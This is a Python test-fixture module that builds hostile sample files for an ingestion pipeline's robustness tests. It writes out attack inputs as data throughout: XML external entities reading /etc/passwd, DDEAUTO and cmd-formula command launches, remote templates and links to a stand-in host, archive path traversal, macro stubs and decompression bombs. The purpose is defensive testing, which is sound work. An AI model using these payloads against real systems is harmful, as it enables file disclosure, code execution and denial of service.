"""What else analysts keep, as an attacker would make it: workbooks, texts, books, mailboxes, messages and pictures."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterator

from pipeline.ingest import scans
from tests.torture.compound import compound, message, word
from tests.torture.documents import inflating
from tests.torture.documents import pdf as made_pdf
from tests.torture.packed import epub, ods, odt, packed, xlsx

RELEASED = "released"
_ELSEWHERE = "http://x.example/"
# What becomes of pictures where nothing is installed that recognises their text.
_NO_ENGINE = scans.engine_version() is None

Fates = dict[str, str]


def kept(words: Iterator[str]) -> Iterator[tuple[str, Fates, bytes]]:
    """Yield name, fates of the sources and bytes; the words stand in each that is released."""
    for family in (
        _workbooks,
        _open_texts,
        _rich_texts,
        _old_words,
        _books,
        _mailboxes,
        _saved_pages,
        _messages,
        _pictures,
    ):
        yield from family(words)


def _one(name: str, fate: str, data: bytes) -> tuple[str, Fates, bytes]:
    return name, {name: fate}, data


def _inline(cell: str, text: str) -> str:
    return f'<c r="{cell}" t="inlineStr"><is><t>{text}</t></is></c>'


def _workbooks(words: Iterator[str]) -> Iterator[tuple[str, Fates, bytes]]:
    def table() -> list[list[str]]:
        return [["Title", "Text"], ["Held", next(words)]]

    head = f'<row r="1">{_inline("A1", "text")}</row>'
    relation = (
        '<Relationships><Relationship Id="r1" Type="x/externalLink" Target="{}" TargetMode="External"/></Relationships>'
    )
    for name, target in (("web", _ELSEWHERE), ("share", "\\\\host\\share\\a.xlsx"), ("file", "file:///etc/passwd")):
        more = [("xl/externalLinks/_rels/externalLink1.xml.rels", relation.format(target))]
        yield f"outside-{name}.xlsx", {f"outside-{name}.xlsx#1": RELEASED}, xlsx(table(), more=more)
    macro = [("xl/vbaProject.bin", b"\0Sub Auto_Open()")]
    for ending in ("xlsm", "xlsx"):
        yield f"macro.{ending}", {f"macro.{ending}#1": RELEASED}, xlsx(table(), more=macro)
    for n, formula in enumerate((f'WEBSERVICE("{_ELSEWHERE}")', "cmd|'/c calc'!A1", "CALL(x)")):
        row = f'<row r="2"><c r="A2" t="str"><f>{formula}</f><v>{next(words)}</v></c></row>'
        yield f"formula-{n}.xlsx", {f"formula-{n}.xlsx#1": RELEASED}, xlsx(head + row)
    yield "slip.xlsx", {"slip.xlsx#1": RELEASED}, xlsx(table(), more=[("../../x.txt", "x")])
    sheets = {"!/../../x.txt": "slip", "#1": "mark", "=1+1": "formula"}
    for name, kind in sheets.items():
        fates = {f"sheet-{kind}.xlsx!{name}#1": RELEASED, f"sheet-{kind}.xlsx!b": "no-text-field"}
        yield f"sheet-{kind}.xlsx", fates, xlsx(table(), [["a", "b"]], names=[name, "b"])
    far = f'{head}<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    yield _one("far-cell.xlsx", "out-of-memory", xlsx(far))
    yield _one("bomb.xlsx", "too-large", xlsx([["text"], ["a" * 60_000_000]]))
    yield _one("bomb.ods", "too-large", ods([["text"], ["a" * 60_000_000]]))
    cell = '<table:table-cell table:number-columns-repeated="{}" office:value-type="string"><text:p>text</text:p></table:table-cell>'
    for n in (16_384, 2_000_000_000):
        rows = f'<table:table-row table:number-rows-repeated="{n * 64}">{cell.format(n)}</table:table-row>'
        yield _one(f"repeated-{n}.ods", "malformed", ods(rows))
    for n, inner in enumerate(('<!ENTITY b "bb">', '<!ENTITY b SYSTEM "file:///etc/passwd">')):
        body = f'<!DOCTYPE a [{inner}]>{head}<row r="2">{_inline("A2", "&b;")}</row>'
        yield _one(f"entity-{n}.xlsx", "malformed", xlsx(body))
    yield _one("deep.xlsx", "empty", xlsx("<row>" * 50_000))
    yield _one("cut.xlsx", "truncated", xlsx(table())[:500])
    for ending in ("xlsx", "xls", "xlsb", "ods"):
        locked = compound({"EncryptionInfo": b"x" * 99, "EncryptedPackage": b"x" * 9_000})
        yield _one(f"locked.{ending}", "encrypted", locked)
        yield _one(f"wrong.{ending}", "malformed", b"no workbook at all")
        yield _one(f"archive.{ending}", "malformed", packed([("a.txt", "x")]))
    yield _one("page.xls", "unsupported", f"<html><table><tr><td>{next(words)}</td></tr></table></html>".encode())
    yield _one("noise.xls", "malformed", compound({"Workbook": b"\x09\x08\x10\0\0\x06\x05\0" + b"\xff" * 9_000}))
    yield _one("figures.xlsx", "no-text-field", xlsx([["Month", "Cases"], ["May", "12"]]))


def _open_texts(words: Iterator[str]) -> Iterator[tuple[str, Fates, bytes]]:
    def paragraph() -> str:
        return f"<text:p>{next(words)}</text:p>"

    yield _one(
        "macro.odt", RELEASED, odt(paragraph(), more=[("Basic/Standard/Module1.xml", "<script>Shell()</script>")])
    )
    linked = f'<text:p><draw:frame><draw:image href="{_ELSEWHERE}a.png"/></draw:frame></text:p>'
    yield _one("outside.odt", RELEASED, odt(linked + paragraph()))
    section = '<text:section><text:section-source href="file:///etc/passwd"/></text:section>'
    yield _one("section.odt", RELEASED, odt(section + paragraph()))
    yield _one("member-slip.odt", RELEASED, odt(paragraph(), more=[("../../x.txt", "x")]))
    yield _one("deep.odt", RELEASED, odt("<text:span>" * 20_000 + "</text:span>" * 20_000 + paragraph()))
    yield _one("nested.odt", RELEASED, odt("<text:p>" * 9_000 + paragraph() + "</text:p>" * 9_000))
    tables = "<table:table><table:table-row><table:table-cell>" * 5_000
    yield _one(
        "tables.odt",
        RELEASED,
        odt(tables + paragraph() + "</table:table-cell></table:table-row></table:table>" * 5_000),
    )
    yield _one("blanks.odt", RELEASED, odt('<text:p>x<text:s text:c="999999999999"/>x</text:p>' * 99 + paragraph()))
    yield _one("unclosed.odt", "malformed", odt("<text:p>" * 5_000))
    yield _one("bomb.odt", "too-large", odt("<text:p>" + "a" * 60_000_000 + "</text:p>"))
    yield _one("bomb-paragraphs.odt", "too-large", odt("<text:p/>" * 3_000_000 + paragraph()))
    entity = "<text:p>&b;</text:p>"
    yield _one("entity.odt", "malformed", odt(entity, head='<!DOCTYPE a [<!ENTITY b "bb">]>'))
    yield _one(
        "entity-outside.odt", "malformed", odt(entity, head='<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>')
    )
    yield _one(
        "locked.odt", "encrypted", odt(paragraph(), more=[("META-INF/manifest.xml", "<m><encryption-data/></m>")])
    )
    yield _one("cut.odt", "truncated", odt(paragraph())[:300])
    yield _one("wrong.odt", "malformed", b"no document")
    yield _one("sheet.odt", "malformed", ods([["text"], [next(words)]]))


def _rich_texts(words: Iterator[str]) -> Iterator[tuple[str, Fates, bytes]]:
    def rtf(body: str) -> bytes:
        return f"{{\\rtf1\\ansi {body} {next(words)}\\par}}".encode("ascii")

    acts = {
        "object": r"{\object\objocx{\*\objdata 0105000002000000}{\result x}}",
        "template": r"{\*\template http://x.example/a.dotm}",
        "field": r'{\field{\*\fldinst DDEAUTO c:\\\\x.exe "calc"}{\fldrslt }}',
        "include": r'{\field{\*\fldinst INCLUDETEXT "file:///etc/passwd"}{\fldrslt }}',
        "link": r'{\field{\*\fldinst HYPERLINK "http://x.example"}{\fldrslt here}}',
        "listener": r"{\*\objupdate}",
    }
    for name, body in acts.items():
        yield _one(f"acts-{name}.rtf", RELEASED, rtf(body))
    yield _one("braces.rtf", RELEASED, rtf("{" * 9_000 + "}" * 9_000))
    yield _one(
        "numbers.rtf", RELEASED, rtf(r"\u9999999999 ?\u-9999999999 ?\uc9999999999 \uc1\f9999999999\ansicpg99999 ")
    )
    yield _one("picture.rtf", RELEASED, rtf(r"{\pict\pngblip " + "00" * 200_000 + "}"))
    yield _one("fields.rtf", RELEASED, rtf(r'{\field{\*\fldinst HYPERLINK "x"}{\fldrslt ' * 3_000 + "}}" * 3_000))
    yield _one("fonts.rtf", RELEASED, rtf(r"{\fonttbl" + r"{\f1\fcharset204 A;}" * 20_000 + "}"))
    yield _one("deep.rtf", "malformed", rb"{\rtf1 " + b"{" * 200_000)
    yield _one("binary.rtf", "truncated", rb"{\rtf1 \bin2147483647 x}")
    yield _one("cut.rtf", "truncated", rb"{\rtf1\ansi Police held")
    yield _one("wrong.rtf", "malformed", b"no RTF")
    yield _one("nothing.rtf", "empty", rb"{\rtf1{\info{\title x}}}")


def _old_words(words: Iterator[str]) -> Iterator[tuple[str, Fates, bytes]]:
    yield _one("good.doc", RELEASED, word(f"{next(words)}\r"))
    yield _one("field.doc", RELEASED, word(f'\x13DDEAUTO c:\\x.exe "calc"\x14\x15{next(words)}\r'))
    yield _one("fields.doc", RELEASED, word("\x13" * 5_000 + "\x15" * 5_000 + f"{next(words)}\r"))
    data = word(f"{next(words)}\r")
    yield _one("locked.doc", "encrypted", word("x\r", flags=0x0100))
    yield _one("locked-new.doc", "encrypted", compound({"EncryptedPackage": b"x" * 5_000}))
    yield _one("older.doc", "unsupported", word("x\r", version=0x65))
    yield _one("claims.doc", "malformed", word("x\r", claims=2**31))
    yield _one("short.doc", "truncated", word("x\r", claims=1_500))
    yield _one("cut.doc", "malformed", data[:900])
    yield _one("sheet.doc", "malformed", compound({"Workbook": b"x" * 5_000}))
    yield _one(
        "noise.doc",
        "malformed",
        compound({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 8 + b"\xff" * 9_000, "1Table": b"\xff" * 99}),
    )
    yield _one(
        "loop.doc", "malformed", data[:76] + struct.pack("<I", 0) + data[80:512] + b"\0" * 4 * 128 + data[1_024:]
    )
    yield _one("wrong.doc", "malformed", b"no document")
    yield _one("really-rich.doc", RELEASED, f"{{\\rtf1\\ansi {next(words)}\\par}}".encode("ascii"))
    yield _one("really-page.doc", RELEASED, f"<html><body><p>{next(words)}</p></body></html>".encode("ascii"))


def _books(words: Iterator[str]) -> Iterator[tuple[str, Fates, bytes]]:
    def page(more: str = "") -> str:
        return f"<html><body>{more}<p>{next(words)}</p></body></html>"

    def book(name: str, fate: str, *, chapter: str | bytes = "", **more: object) -> tuple[str, Fates, bytes]:
        return f"{name}.epub", {f"{name}.epub!OEBPS/c.xhtml": fate}, epub({"c.xhtml": chapter or page()}, **more)  # type: ignore[arg-type]

    yield book("script", RELEASED, chapter=page("<script>alert(1)</script>"))
    yield book("frame", RELEASED, chapter=page(f'<iframe src="{_ELSEWHERE}"></iframe>'))
    yield book("member-slip", RELEASED, more=[("../../x.txt", "x")])
    yield book("bomb", "too-large", chapter="a" * 60_000_000)
    yield book(
        "locked", "encrypted", more=[("META-INF/encryption.xml", '<e><CipherReference URI="OEBPS/c.xhtml"/></e>')]
    )
    for n, href in enumerate(("../../../x.xhtml", "/etc/passwd", "file:///etc/passwd", _ELSEWHERE, "%2e%2e/%2e%2e/x")):
        name = f"slip-{n}.epub"
        fates = {f"{name}!OEBPS/c.xhtml": RELEASED}
        data = epub({"c.xhtml": page()}, items=f'<item id="x" href="{href}"/>', refs='<itemref idref="x"/>')
        yield name, {**fates, f"{name}!document 2": "malformed"}, data
    many = {f"{n}.xhtml": page() for n in range(3)}
    refs = '<itemref idref="c0"/>' * 5_000
    yield "twice.epub", {f"twice.epub!OEBPS/{n}.xhtml": RELEASED for n in range(3)}, epub(many, refs=refs)
    entity = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><container/>'
    yield _one("entity.epub", "malformed", packed([("META-INF/container.xml", entity)]))
    yield _one("cut.epub", "truncated", epub({"c.xhtml": page()})[:400])
    yield _one("wrong.epub", "malformed", b"no book")
    yield _one("hollow.epub", "empty", epub({}))


def _mailboxes(words: Iterator[str]) -> Iterator[tuple[str, Fates, bytes]]:
    begin = "From x@y.example Tue Mar 14 10:00:00 2023\n"
    head = "From: x <x@y.example>\nSubject: =1+1\n\n"
    mails = [f"{begin}{head}{next(words)}\n\n" for _ in range(2)]
    yield "two.mbox", {"two.mbox#1": RELEASED, "two.mbox#2": RELEASED}, "".join(mails).encode()
    broken = f"{begin}no headers\n\n{begin}{head}{next(words)}\n"
    yield "broken.mbox", {"broken.mbox#1": "malformed", "broken.mbox#2": RELEASED}, broken.encode()
    nested = "Content-Type: multipart/mixed; boundary=x\n\n--x\n" * 2_000
    deep = f"{begin}Subject: x\n{nested}\n\n{begin}{head}{next(words)}\n"
    yield "deep.mbox", {"deep.mbox#1": "empty", "deep.mbox#2": RELEASED}, deep.encode()
    yield _one("wrong.mbox", "malformed", b"no mailbox\n" * 99)
    yield _one("line.mbox", "malformed", b"x" * 3_000_000)
    yield _one("starts.mbox", "malformed", b"From " * 300_000)


def _saved_pages(words: Iterator[str]) -> Iterator[tuple[str, Fates, bytes]]:
    head = b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\nContent-Type: text/html%s\n\n%s\n--x--\n"
    for n, (charset, fate) in enumerate(
        ((b"", RELEASED), (b"; charset=bogus", RELEASED), (b'; charset="a\0b"', RELEASED))
    ):
        page = f"<p>{next(words)}</p><script src='{_ELSEWHERE}'></script>".encode()
        yield _one(f"saved-{n}.mhtml", fate, head % (charset, page))
    yield _one("cut.mht", "truncated", (head % (b"", b"<p>Police</p>"))[:-4])
    yield _one("wrong.mht", "malformed", b"no headers")
    yield _one("picture.mht", "empty", (head % (b"", b"x")).replace(b"text/html", b"image/png"))
    nested = b"Content-Type: multipart/related; boundary=x\n\n--x\n" * 3_000
    yield _one("deep.mht", "empty", b"MIME-Version: 1.0\n" + nested + b"\n--x--")


def _messages(words: Iterator[str]) -> Iterator[tuple[str, Fates, bytes]]:
    yield _one("good.msg", RELEASED, compound(message("Held", next(words), sender="=1+1")))
    yield _one("header.msg", RELEASED, compound(message("Held\r\nBcc: all@x.example\r\n\r\nx", next(words))))
    page = f"<script>x</script><p>{next(words)}</p>".encode()
    yield _one("script.msg", RELEASED, compound(message("Held", "", html=page)))
    data = compound(message("Held", next(words)))
    yield _one("cut.msg", "malformed", data[:700])
    yield _one("locked.msg", "encrypted", compound(message("Held", "", kind="IPM.Note.SMIME")))
    inner = message("x", "y", inner=True)
    for _ in range(12):
        inner = message("x", "y", inner=True, attached=[("m", inner)])
    yield _one("deep.msg", "too-deep", compound(message("x", "y", attached=[("m", inner)])))
    yield _one("packed.msg", "malformed", compound(message("x", "", packed=b"\xff" * 16 + b"LZFu" * 9)))
    yield _one("wrong.msg", "malformed", b"no message")
    yield _one("word.msg", "malformed", word("x\r"))


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, data: bytes) -> bytes:
    """Return a picture in grey of a claimed size, of packed rows."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def _pictures(words: Iterator[str]) -> Iterator[tuple[str, Fates, bytes]]:
    def picture(name: str, fate: str, data: bytes) -> tuple[str, Fates, bytes]:
        return _one(name, "not-recognised" if _NO_ENGINE else fate, data)

    yield picture("pixels.png", "too-large", png(2**31 - 1, 2**31 - 1, b""))
    yield picture("bomb.png", "too-large", png(60_000, 60_000, inflating(8, 1)))
    yield picture("blank.png", "empty", png(400, 400, zlib.compress((b"\0" + b"\xff" * 400) * 400)))
    yield picture("cut.png", "truncated", png(400, 400, zlib.compress((b"\0" + b"\xff" * 400) * 400))[:-40])
    for ending in ("png", "jpg", "jpeg", "tif", "tiff", "webp"):
        yield picture(f"wrong.{ending}", "malformed", b"no picture")
    svg = f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{_ELSEWHERE}"/><text>{next(words)}</text></svg>'
    yield picture("vectors.png", "malformed", svg.encode())
    yield picture("script.jpg", "malformed", b"%!PS\n(/etc/passwd) (r) file")
    loop = b"II*\0\x08\0\0\0" + struct.pack("<H", 0) + struct.pack("<I", 8)
    yield picture("loop.tif", "malformed", loop)
    image = b"<< /Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 8 "
    packed_rows = inflating(3_434, 1)
    body = b"/Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (len(packed_rows), packed_rows)
    yield _one("scan-bomb.pdf", "too-large", made_pdf(b"q 612 0 0 792 0 0 cm /X Do Q", more=[image + body]))
